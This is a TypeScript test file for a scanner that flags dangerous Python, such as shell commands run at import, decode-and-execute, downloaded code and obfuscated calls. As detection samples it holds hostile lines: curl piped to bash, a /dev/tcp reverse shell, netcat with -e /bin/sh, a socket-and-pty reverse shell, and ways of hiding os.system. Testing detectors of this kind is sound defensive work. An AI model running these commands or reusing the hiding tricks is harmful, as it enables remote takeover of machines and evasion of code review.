import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { mutated, randomNumbers } from "testkit/mutation";
import type { Hazard } from "../../model/hazard.ts";
import { judgePython } from "./index.ts";
import { startWorkClock } from "../../../../../testkit/work-clock.ts";

async function rulesOf(text: string): Promise<string[]> {
  const { hazards } = await judgePython(text);
  return hazards.map(({ rule, verdict, line }) => `${rule} ${verdict} ${line ?? 0}`);
}

async function first(text: string): Promise<Hazard | undefined> {
  return (await judgePython(text)).hazards[0];
}

describe("commands", () => {
  it.each([
    ["os.system", "import os\nos.system('ls')"],
    ["an alias of the module", "import os as o\no.system('ls')"],
    ["a name out of the module", "from os import system as s\ns('ls')"],
    ["all names of the module", "from os import *\nsystem('ls')"],
    ["subprocess", "import subprocess\nsubprocess.check_output(['ls'])"],
    ["a variable that holds the function", "import os\nrun = os.system\nrun('ls')"],
    ["a function handed to another one", "import os\nlist(map(os.system, ['ls']))"],
    ["a thread", "import os, threading\nthreading.Thread(target=os.system, args=('ls',)).start()"],
    ["a decorator's argument", "import os\n@register(os.system('ls'))\ndef f(): pass"],
    ["a default value", "import os\ndef f(x=os.system('ls')): pass"],
    ["a class body", "class A:\n    import os\n    os.system('ls')"],
    ["a lambda", "import os\n(lambda: os.system('ls'))()"],
    ["functools.partial", "import os, functools\nfunctools.partial(os.system, 'ls')()"],
    ["an imported module object", "import importlib\nimportlib.import_module('os').system('ls')"],
    ["a walrus", "import os\nif (run := os.system)('ls'): pass"],
    ["a conditional", "import os\n(os.system if x else print)('ls')"],
  ])("are suspicious at import time: %s", async (_name, text) => {
    expect(await rulesOf(text)).toContainEqual(expect.stringMatching(/^PYTHON-COMMAND suspicious/));
  });

  it("are unknown inside a function that nobody calls on import", async () => {
    const text = "import subprocess\ndef build():\n    subprocess.run(['make'])\n";
    expect(await rulesOf(text)).toEqual(["PYTHON-COMMAND unknown 3"]);
  });

  it("are found at import time through functions, methods and decorators", async () => {
    expect(await rulesOf("import os\ndef a():\n    os.system('x')\ndef b():\n    a()\nb()\n")).toEqual([
      "PYTHON-COMMAND suspicious 3",
    ]);
    expect(
      await rulesOf("import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()\n"),
    ).toEqual(["PYTHON-COMMAND suspicious 4"]);
    expect(await rulesOf("import os\ndef d(f):\n    os.system('x')\n@d\ndef g(): pass\n")).toEqual([
      "PYTHON-COMMAND suspicious 3",
    ]);
  });

  it("under the main guard do not run on import", async () => {
    const text = 'import os\nif __name__ == "__main__":\n    os.system("x")\nelse:\n    pass\n';
    expect(await rulesOf(text)).toEqual(["PYTHON-COMMAND unknown 3"]);
  });

  it("are shown with their full name", async () => {
    const hazard = await first("from os import system as s\ns('echo hi')\n");
    expect(hazard?.message).toBe(
      'Python code starts other programs as soon as it is imported: os.system("echo hi") in line 2.',
    );
  });

  it.each([
    ["curl into a shell", "os.system('curl -s https://example.org/x | sudo bash')"],
    ["wget and then run", "subprocess.run('wget https://example.org/x -O y && python y', shell=True)"],
    ["a list", "subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'])"],
    ["netcat", "os.popen('nc -e /bin/sh 192.0.2.1 1')"],
  ])("are dangerous when the line fetches and runs: %s", async (_name, call) => {
    expect(await rulesOf(`import os, subprocess\ndef f():\n    ${call}\n`)).toEqual([
      "PYTHON-HOSTILE-COMMAND dangerous 3",
    ]);
  });
});

describe("decoding and downloading", () => {
  it.each([
    ["directly", "import base64\nexec(base64.b64decode('eA=='))"],
    ["through a variable", "import base64\np = base64.b64decode('eA==')\nq = p.decode()\nexec(q)"],
    ["through a function", "import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('eA=='))"],
    ["marshal", "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'')))"],
    ["compile", "import base64\nc = compile(base64.b64decode('eA=='), 'x', 'exec')\nexec(c)"],
    ["fromhex", "exec(bytes.fromhex('70').decode())"],
    ["into a command", "import os, base64\nos.system(base64.b64decode('eA==').decode())"],
  ])("is dangerous when the result is executed: %s", async (_name, text) => {
    expect(await rulesOf(text)).toContainEqual(expect.stringMatching(/^PYTHON-DECODE-EXECUTE dangerous/));
  });

  it.each([
    ["urlopen", "from urllib.request import urlopen\nexec(urlopen('https://example.org').read())"],
    ["requests", "import requests\nr = requests.get('https://example.org')\nexec(r.text)"],
    ["with", "import urllib.request as u\nwith u.urlopen('https://example.org') as f:\n    exec(f.read())"],
  ])("is dangerous when a download is executed: %s", async (_name, text) => {
    expect(await rulesOf(text)).toContainEqual(expect.stringMatching(/^PYTHON-DOWNLOAD-EXECUTE dangerous/));
  });

  it("alone is no hazard, or unknown", async () => {
    expect(await rulesOf("import base64\nimage = base64.b64decode(text)\n")).toEqual([]);
    expect(await rulesOf("import requests\ndef f(u):\n    return requests.get(u)\n")).toEqual([
      "PYTHON-NETWORK unknown 3",
    ]);
  });

  it("does not cross functions by the name of a local variable", async () => {
    const text =
      "import base64\ndef a(x):\n    data = base64.b64decode(x)\n    return len(data)\ndef b(data):\n    eval(data)\n";
    expect(await rulesOf(text)).toEqual(["PYTHON-DYNAMIC-CODE unknown 6"]);
  });

  it("is a reverse shell when a socket becomes the terminal", async () => {
    const text =
      "import socket,os,pty\ndef f():\n s=socket.socket()\n s.connect(('192.0.2.1',1))\n os.dup2(s.fileno(),0)\n pty.spawn('sh')\n";
    expect(await rulesOf(text)).toEqual(["PYTHON-REVERSE-SHELL dangerous 4"]);
  });
});

describe("hiding", () => {
  it.each([
    ["getattr on pieces", "import os\ngetattr(os, 'sys' + 'tem')('x')"],
    ["joined characters", "import os\ngetattr(os, ''.join(['s','y','s','t','e','m']))('x')"],
    ["chr", "import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('x')"],
    ["map of chr", "import os\ngetattr(os, ''.join(map(chr, [115,121,115,116,101,109])))('x')"],
    ["reversed", "__import__('so'[::-1]).system('x')"],
    ["escapes", "__import__('\\x6f\\x73').system('\\x69\\x64\\x20\\x2f')"],
    ["builtins", "__builtins__['eval']('x')"],
    ["builtins by getattr", "getattr(__builtins__, 'exec')('x')"],
    ["globals", "globals()['__builtins__'].exec('x')"],
    ["the dictionary of a module", "import os\nos.__dict__['system']('x')"],
    ["subclasses", "().__class__.__bases__[0].__subclasses__()"],
    ["bytes", "exec(bytes([112, 97, 115, 115]))"],
  ])("is suspicious: %s", async (_name, text) => {
    expect(await rulesOf(text)).toContainEqual(expect.stringMatching(/^PYTHON-OBFUSCATED suspicious/));
  });

  it("is undone in the message", async () => {
    const hazard = await first("import os\ngetattr(os, 'metsys'[::-1])(chr(105) + chr(100))\n");
    expect(hazard?.evidence).toEqual(['line 2: os.system("id")']);
  });

  it("is a long encoded literal only beside what could run it", async () => {
    const blob = `blob = "${"QUJD".repeat(300)}"\n`;
    expect(await rulesOf(blob)).toEqual([]);
    expect(await rulesOf(`${blob}def f(x):\n    eval(x)\n`)).toEqual([
      "PYTHON-DYNAMIC-CODE unknown 3",
      "PYTHON-OBFUSCATED suspicious 1",
    ]);
  });
});

describe("other calls", () => {
  it.each([
    ["import torch\ntorch.load('x')", "PYTHON-DESERIALISE unknown 2"],
    ["import pickle\npickle.loads(b'')", "PYTHON-DESERIALISE unknown 2"],
    ["import yaml\nyaml.load(f)", "PYTHON-DESERIALISE unknown 2"],
    ["import numpy as np\nnp.load(f, allow_pickle=True)", "PYTHON-DESERIALISE unknown 2"],
    ["import ctypes\nctypes.CDLL('x.so')", "PYTHON-NATIVE-CODE unknown 2"],
    ["import shutil\nshutil.rmtree('x')", "PYTHON-FILES unknown 2"],
    ["from pathlib import Path\nPath('x').unlink()", "PYTHON-FILES unknown 2"],
    ["open('/etc/cron.d/x', 'w')", "PYTHON-FILES unknown 1"],
    ["import importlib\nimportlib.import_module(name)", "PYTHON-DYNAMIC-IMPORT unknown 2"],
    ["exec(open('version.py').read())", "PYTHON-DYNAMIC-CODE unknown 1"],
    ["exec 'print 1'", "PYTHON-DYNAMIC-CODE unknown 1"],
  ])("are unknown: %s", async (text, expected) => {
    expect(await rulesOf(text)).toEqual([expected]);
  });

  it.each([
    ["torch.load with weights_only", "import torch\ntorch.load('x', weights_only=True)"],
    ["a safe yaml loader", "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)"],
    ["numpy.load", "import numpy as np\nnp.load('x')"],
    ["model.eval", "model.eval()"],
    ["re.compile", "import re\nre.compile('x')"],
    ["a function of its own named eval", "def eval(model):\n    return model\neval(1)"],
    ["reading a file", "open('/etc/hosts')"],
    ["writing beside itself", "open('out.txt', 'w')"],
    ["a comment and a text", "# os.system('x')\ntext = 'eval(x)'"],
    ["subclasses of a named class", "import numpy as np\nnp.floating.__subclasses__()"],
    ["a frame's names", "import sys\nsys._getframe(1).f_globals"],
    ["another object's system", "class A:\n    def f(self):\n        self.os.system('x')"],
  ])("are no hazards: %s", async (_name, text) => {
    expect(await judgePython(text)).toEqual({ hazards: [], problems: [] });
  });
});

describe("hostile source", () => {
  it("that is no Python is said to be not understood", async () => {
    const { problems } = await judgePython("x = 1\ndef ((((\n", { member: "handler.py" });
    expect(problems).toEqual([
      { code: "malformed", message: "line 2 of the Python source was not understood", member: "handler.py" },
    ]);
  });

  it.each([
    ["too long", "x = 1\n".repeat(100_000)],
    ["too many statements", "a;".repeat(250_000)],
  ])("is not read when it is %s", async (_name, text) => {
    expect((await judgePython(text)).problems).toMatchObject([{ code: "limit-exceeded" }]);
  });

  it.each([
    ["nested calls", `${"f(".repeat(20_000)}${")".repeat(20_000)}`],
    ["nested attributes", `x${".a".repeat(40_000)}()`],
    ["chained calls", `f${"()".repeat(20_000)}`],
    ["a long sum", `getattr(os, ${Array.from({ length: 20_000 }, () => "'a'").join("+")})()`],
    ["nested getattr", `${"getattr(".repeat(5_000)}os${",'a')".repeat(5_000)}`],
    ["many aliases", Array.from({ length: 5_000 }, (_, at) => `a${at} = a${at + 1}`).join("\n")],
    ["nested parentheses", `${"(".repeat(30_000)}1${")".repeat(30_000)}`],
    ["many statements", "a\n".repeat(90_000)],
    ["many arguments", `f(${"a,".repeat(90_000)})`],
    ["nested functions", Array.from({ length: 300 }, (_, at) => `${" ".repeat(at)}def f():`).join("\n")],
    ["nested conditionals", `${"(a if b else ".repeat(5_000)}c${")".repeat(5_000)}('x')`],
  ])("takes bounded time: %s", async (_name, text) => {
    const clock = startWorkClock();
    await judgePython(text);
    expect(clock.seconds()).toBeLessThan(20);
  });

  it("mutated never throws", async () => {
    const source = Buffer.from(
      "import os as o, base64\nfrom sys import *\nclass A:\n  def f(self, x=1):\n    return base64.b64decode(x)\n" +
        "@A().f\ndef g(): exec(A().f('a' + \"b\"[::-1]))\nif __name__ == '__main__': getattr(o, chr(1)+'x')(*y)\n",
    );
    await fc.assert(
      fc.asyncProperty(fc.nat(), async (seed) => {
        const text = Buffer.from(mutated(source, randomNumbers(seed))).toString("utf8");
        expect((await judgePython(text)).hazards.length).toBeLessThan(20);
      }),
      { seed: 4, numRuns: 300 },
    );
  });
});
